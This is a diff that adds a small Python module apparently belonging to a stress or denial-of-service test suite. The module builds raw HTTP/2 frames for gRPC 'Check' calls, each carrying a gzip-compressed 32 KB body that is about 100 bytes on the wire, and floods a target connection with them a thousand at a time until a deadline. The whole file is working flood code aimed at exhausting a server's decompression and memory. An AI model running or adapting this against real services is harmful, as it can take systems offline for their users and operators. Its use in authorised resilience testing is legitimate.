@@ -1,0 +1,21 @@
+"""Compressed calls of 100 bytes whose messages have 32 KB, a thousand at a time."""
+
+import gzip
+import struct
+
+from wire import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SERVICE, flood_connection, frame, literal, settings
+
+
+def chunks():
+    head = b"\x83\x86\x01\x01a" + literal(":path", SERVICE + "Check") + literal("content-type", "application/grpc")
+    head += literal("te", "trailers") + literal("grpc-encoding", "gzip")
+    packed = gzip.compress(bytes(32_768))
+    body = struct.pack(">BI", 1, len(packed)) + packed
+    for first in range(1, 1 << 30, 2_000):
+        yield b"".join(
+            frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, body)
+            for stream in range(first, first + 2_000, 2))  # fmt: skip
+
+
+def flood(target, until):
+    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
